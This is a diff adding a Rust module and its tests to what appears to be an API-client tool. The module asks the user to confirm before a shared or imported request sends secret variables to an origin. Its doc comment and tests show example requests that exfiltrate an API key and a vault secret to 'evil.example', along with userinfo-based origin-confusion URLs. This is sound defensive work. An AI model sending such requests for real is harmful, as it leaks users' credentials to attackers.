@@ -1,0 +1,273 @@
+//! Requests of someone else's making. A request that came from a share link, an imported
+//! collections file or a pasted curl command is untrusted until its user confirms it: its URL
+//! and its `{{references}}` were chosen by someone else, so one press of Send could put the
+//! user's keys into a request to a server of that someone's choosing
+//! (`Authorization: Bearer {{openai_api_key}}` to `https://evil.example/`). Before such a
+//! request sends the value of a secret or credential-looking variable to an origin, the user is
+//! asked, once per origin.
+
+use serde::{Deserialize, Serialize};
+
+use crate::model::request::{PreparedRequest, RequestDraft};
+use crate::model::secrets::is_secret_name;
+use crate::model::variables::Environment;
+
+/// Where an untrusted request came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Source {
+    /// Opened from a share link.
+    ShareLink,
+    /// Imported from a collections file.
+    CollectionsFile,
+    /// Imported from a curl command.
+    CurlCommand,
+}
+
+impl Source {
+    /// How the confirmation names it: "a share link".
+    pub fn describe(self) -> &'static str {
+        match self {
+            Self::ShareLink => "a share link",
+            Self::CollectionsFile => "an imported collections file",
+            Self::CurlCommand => "an imported curl command",
+        }
+    }
+}
+
+/// Whether a request may spend the user's secrets without asking. Saved with the request.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Trust {
+    /// Made here (typed, from a template, or saved before this existed).
+    #[default]
+    Trusted,
+    /// Of someone else's making.
+    Untrusted {
+        /// Where it came from.
+        source: Source,
+        /// Origins (`scheme://host:port`) the user has confirmed sending its secrets to.
+        confirmed_origins: Vec<String>,
+    },
+}
+
+impl Trust {
+    /// An untrusted request from `source`, confirmed for no origin.
+    pub fn from(source: Source) -> Self {
+        Self::Untrusted {
+            source,
+            confirmed_origins: Vec::new(),
+        }
+    }
+
+    /// Whether it is [`Trust::Trusted`] (for `skip_serializing_if`).
+    pub fn is_trusted(&self) -> bool {
+        matches!(self, Self::Trusted)
+    }
+
+    /// Remembers that the user confirmed sending this request's secrets to `origin`.
+    pub fn confirm(&mut self, origin: &str) {
+        if let Self::Untrusted {
+            confirmed_origins, ..
+        } = self
+            && !confirmed_origins.iter().any(|known| known == origin)
+        {
+            confirmed_origins.push(origin.to_owned());
+        }
+    }
+}
+
+/// What the user is asked before an untrusted request spends secrets.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SecretSpend {
+    /// Where the request goes: `scheme://host:port`.
+    pub origin: String,
+    /// The secret or credential-looking variables whose values would go there, in the order
+    /// they are first used.
+    pub variables: Vec<String>,
+    /// Where the request came from.
+    pub source: Source,
+}
+
+/// What to confirm before `draft`, prepared (with secrets revealed) as `prepared`, is sent from a
+/// page on `page_origin` with `environment` active; `None` when nothing needs confirming: the
+/// request is trusted, uses no secret or credential-looking variable (a secret one, or one whose
+/// name says key, token, secret, password, auth, cookie, session or signature), or was confirmed
+/// for this origin. A reconnection goes to the same origin, so the confirmation at Send covers it.
+pub fn secrets_to_confirm(
+    draft: &RequestDraft,
+    prepared: &PreparedRequest,
+    environment: Option<&Environment>,
+    page_origin: &str,
+) -> Option<SecretSpend> {
+    let Trust::Untrusted {
+        source,
+        confirmed_origins,
+    } = &draft.trust
+    else {
+        return None;
+    };
+    let origin = origin_of(&prepared.url, page_origin);
+    if confirmed_origins.contains(&origin) {
+        return None;
+    }
+    let mut variables = draft.variable_names();
+    variables.retain(|name| {
+        environment
+            .and_then(|environment| environment.get(name))
+            .is_some_and(|variable| variable.is_secret || is_secret_name(&variable.name))
+    });
+    (!variables.is_empty()).then_some(SecretSpend {
+        origin,
+        variables,
+        source: *source,
+    })
+}
+
+/// The origin (`scheme://host[:port]`, lowercase, default port left out) that `url` is fetched
+/// from; a URL without a scheme is relative to the page on `page_origin`. Read as a browser reads
+/// it: the authority ends at `/`, `\`, `?` or `#`, and the host follows its last `@`, so
+/// `https://good.example@evil.example/` is `https://evil.example` and
+/// `https://good.example\@evil.example/` is `https://good.example`.
+pub fn origin_of(url: &str, page_origin: &str) -> String {
+    let url = url.trim();
+    let Some((scheme, rest)) = url.split_once("://") else {
+        return page_origin.trim_end_matches('/').to_ascii_lowercase();
+    };
+    let scheme = scheme.to_ascii_lowercase();
+    let authority = rest.split(['/', '\\', '?', '#']).next().unwrap_or_default();
+    let host_port = authority
+        .rsplit_once('@')
+        .map_or(authority, |(_, host)| host)
+        .to_ascii_lowercase();
+    let default_port = match scheme.as_str() {
+        "http" => Some(":80"),
+        "https" => Some(":443"),
+        _ => None,
+    };
+    let host_port = default_port
+        .and_then(|port| host_port.strip_suffix(port))
+        .unwrap_or(&host_port);
+    format!("{scheme}://{host_port}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::auth::Auth;
+    use crate::model::request::Method;
+    use crate::model::variables::{Secrets, Variable};
+
+    const PAGE: &str = "http://127.0.0.1:8080";
+
+    fn environment() -> Environment {
+        let variable = |name: &str, is_secret| Variable {
+            name: name.into(),
+            value: format!("value-of-{name}"),
+            is_secret,
+        };
+        Environment {
+            variables: vec![
+                variable("openai_api_key", false),
+                variable("vault", true),
+                variable("model", false),
+                variable("host", false),
+            ],
+            ..Environment::default()
+        }
+    }
+
+    fn shared(url: &str, headers: &[(&str, &str)], body: &str) -> RequestDraft {
+        let mut draft = RequestDraft::new(Method::Post, url.into(), headers, body.into());
+        draft.trust = Trust::from(Source::ShareLink);
+        draft
+    }
+
+    fn ask(draft: &RequestDraft) -> Option<SecretSpend> {
+        let environment = environment();
+        let prepared = draft
+            .prepare(Some(&environment), Secrets::Reveal)
+            .expect("prepares");
+        secrets_to_confirm(draft, &prepared, Some(&environment), PAGE)
+    }
+
+    #[test]
+    fn a_shared_request_that_would_send_a_key_elsewhere_asks_naming_origin_and_variables() {
+        let draft = shared(
+            "https://evil.example/collect?m={{model}}",
+            &[("Authorization", "Bearer {{openai_api_key}}")],
+            "{\"k\":\"{{vault}}\",\"again\":\"{{openai_api_key}}\"}",
+        );
+        assert_eq!(
+            ask(&draft),
+            Some(SecretSpend {
+                origin: "https://evil.example".into(),
+                variables: vec!["openai_api_key".into(), "vault".into()],
+                source: Source::ShareLink,
+            })
+        );
+    }
+
+    #[test]
+    fn secrets_in_auth_fields_count_too() {
+        let mut draft = shared("https://api.example.com/v1", &[], "");
+        draft.auth = Auth::Bearer {
+            token: "{{vault}}".into(),
+        };
+        assert_eq!(
+            ask(&draft).map(|spend| spend.variables),
+            Some(vec!["vault".into()])
+        );
+    }
+
+    #[test]
+    fn nothing_is_asked_for_trusted_requests_or_requests_without_secrets() {
+        let mut trusted = shared(
+            "https://evil.example/",
+            &[("x-api-key", "{{openai_api_key}}")],
+            "",
+        );
+        trusted.trust = Trust::Trusted;
+        assert_eq!(ask(&trusted), None);
+        let harmless = shared("https://{{host}}/x?model={{model}}", &[], "");
+        assert_eq!(ask(&harmless), None);
+    }
+
+    #[test]
+    fn confirming_is_remembered_per_origin_and_another_origin_asks_again() {
+        let mut draft = shared(
+            "https://api.example.com/v1",
+            &[("x-api-key", "{{openai_api_key}}")],
+            "",
+        );
+        let origin = ask(&draft).expect("asks").origin;
+        draft.trust.confirm(&origin);
+        assert_eq!(ask(&draft), None);
+        draft.url = "https://other.example/v1".into();
+        assert_eq!(
+            ask(&draft).map(|spend| spend.origin),
+            Some("https://other.example".into())
+        );
+    }
+
+    #[test]
+    fn the_origin_is_read_as_a_browser_reads_the_url() {
+        for (url, origin) in [
+            (
+                "https://API.example.com:443/v1?x=1",
+                "https://api.example.com",
+            ),
+            ("http://example.com:80/", "http://example.com"),
+            ("http://example.com:8080", "http://example.com:8080"),
+            ("https://good.example@evil.example/", "https://evil.example"),
+            (
+                "https://good.example\\@evil.example/",
+                "https://good.example",
+            ),
+            ("https://user:pw@host.example#frag", "https://host.example"),
+            ("/demo/echo", PAGE),
+        ] {
+            assert_eq!(origin_of(url, PAGE), origin, "{url}");
+        }
+    }
+}
